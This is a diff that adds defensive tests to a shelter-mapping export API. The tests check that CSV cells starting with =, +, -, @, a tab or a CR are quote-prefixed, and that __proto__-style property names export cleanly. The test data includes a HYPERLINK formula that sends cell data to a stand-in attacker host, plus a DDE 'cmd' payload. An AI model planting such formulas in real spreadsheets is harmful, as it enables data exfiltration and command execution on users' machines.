@@ -178,3 +178,76 @@ describe('POST /api/export: an analysis result as a file', () => {
     await request(ctx.app).post('/api/export?f=xlsx').send({ type: 'FeatureCollection', features: [] }).expect(400);
   });
 });
+
+/** POSTs a body as it is (so that a "__proto__" member stays a member) and returns the file. */
+async function exportBody(f: string, body: string) {
+  const res = await request(ctx.app).post(`/api/export?f=${f}&name=proto`).set('Content-Type', 'application/json').send(body).buffer(true).parse((r, cb) => {
+    const chunks: Buffer[] = [];
+    r.on('data', (c: Buffer) => chunks.push(c));
+    r.on('end', () => cb(null, Buffer.concat(chunks)));
+  });
+  return { status: res.status, body: res.body as Buffer };
+}
+
+describe('CSV cells that a spreadsheet would run as formulas', () => {
+  const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"查看")', '+1+cmd|\'/C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR'];
+
+  it('text starting with = + - @, a tab or a CR is prefixed with a quote, in layer exports', async () => {
+    for (const [i, name] of NAMES.entries()) {
+      await request(ctx.app).post('/ogc/collections/shelters/items').set('Authorization', bearer('planner')).send({
+        type: 'Feature', geometry: { type: 'Point', coordinates: [110.93, 22.36] },
+        properties: { code: `CSV-F-${i}`, name, shelter_type: 'emergency', level: 'village', capacity: 10, status: 'open' },
+      }).expect(201);
+    }
+    const rows = parse((await download('/ogc/collections/shelters/items?f=csv')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
+    for (const [i, name] of NAMES.entries()) {
+      const row = rows.find((r) => r.code === `CSV-F-${i}`);
+      expect(row?.name, name).toBe(`'${name}`);
+      expect(row?.capacity).toBe('10');
+    }
+    // Everything else is as it was.
+    const plain = rows.find((r) => !r.code.startsWith('CSV-F-'))!;
+    expect(plain.name).not.toMatch(/^'/);
+    expect(plain.WKT).toMatch(/^POINT \(/);
+  });
+
+  it('the quote comes off again when the file is imported back: those features read as unchanged', async () => {
+    const csv = (await download('/ogc/collections/shelters/items?f=csv&status=open', 'planner')).body;
+    const res = await request(ctx.app).post('/api/import/shelters?on_duplicate=update').set('Authorization', bearer('planner')).attach('file', csv, 'shelters.csv').expect(200);
+    // Leading tabs and CRs are trimmed on import like any outer white space, so those two do change.
+    const rows = res.body.rows as Array<{ code: string; action: string }>;
+    for (const i of [0, 1, 2, 3]) expect(rows.find((r) => r.code === `CSV-F-${i}`)?.action, NAMES[i]).toBe('unchanged');
+  });
+
+  it('numbers are never touched (a numeric column’s -5 stays -5); text that looks like one is', async () => {
+    const fc = { type: 'FeatureCollection', features: [{ type: 'Feature', geometry: { type: 'Point', coordinates: [110.9, 22.3] }, properties: { n: -5, x: -0.25, t: '-5', ok: 'plain', e: '' } }] };
+    const res = await exportBody('csv', JSON.stringify(fc));
+    expect(res.status).toBe(200);
+    const [row] = parse(res.body, { bom: true, columns: true }) as Array<Record<string, string>>;
+    expect(row).toMatchObject({ n: '-5', x: '-0.25', t: "'-5", ok: 'plain', e: '' });
+    expect(row.longitude).toBe('110.9');
+  });
+});
+
+describe('property names that are also names of JavaScript object members', () => {
+  const body = JSON.stringify({ type: 'FeatureCollection', features: [] }).replace('[]', `[
+    {"type": "Feature", "geometry": {"type": "Point", "coordinates": [110.9, 22.3]}, "properties": {"constructor": "a", "toString": "b", "valueOf": "c", "__proto__": "d", "hasOwnProperty": "e"}},
+    {"type": "Feature", "geometry": {"type": "Point", "coordinates": [110.91, 22.31]}, "properties": {"name": "only a name"}}
+  ]`);
+
+  it('export as every format (never a 500), with the values the features hold and nothing from Object', async () => {
+    for (const f of ['geojson', 'csv', 'gpkg', 'fgb']) {
+      const res = await exportBody(f, body);
+      expect(res.status, `${f}: ${res.body.toString('utf8').slice(0, 200)}`).toBe(200);
+      expect(res.body.toString('latin1'), f).not.toMatch(/native code|\[object Object\]/);
+      if (f === 'csv') {
+        // Read as arrays: records keyed by these names would trip over them in the test itself.
+        const [header, ...rows] = parse(res.body, { bom: true }) as string[][];
+        const cells = (row: string[]) => Object.fromEntries(['constructor', 'toString', 'valueOf', '__proto__', 'hasOwnProperty', 'name'].map((n) => [n, row[header.indexOf(n)]]));
+        expect(cells(rows[0])).toEqual(Object.fromEntries([['constructor', 'a'], ['toString', 'b'], ['valueOf', 'c'], ['__proto__', 'd'], ['hasOwnProperty', 'e'], ['name', '']]));
+        expect(cells(rows[1])).toEqual(Object.fromEntries([['constructor', ''], ['toString', ''], ['valueOf', ''], ['__proto__', ''], ['hasOwnProperty', ''], ['name', 'only a name']]));
+      }
+      if (f === 'gpkg' || f === 'fgb') expect(ogrinfo(save(`proto.${f}`, res.body))).toContain('Feature Count: 2');
+    }
+  });
+});
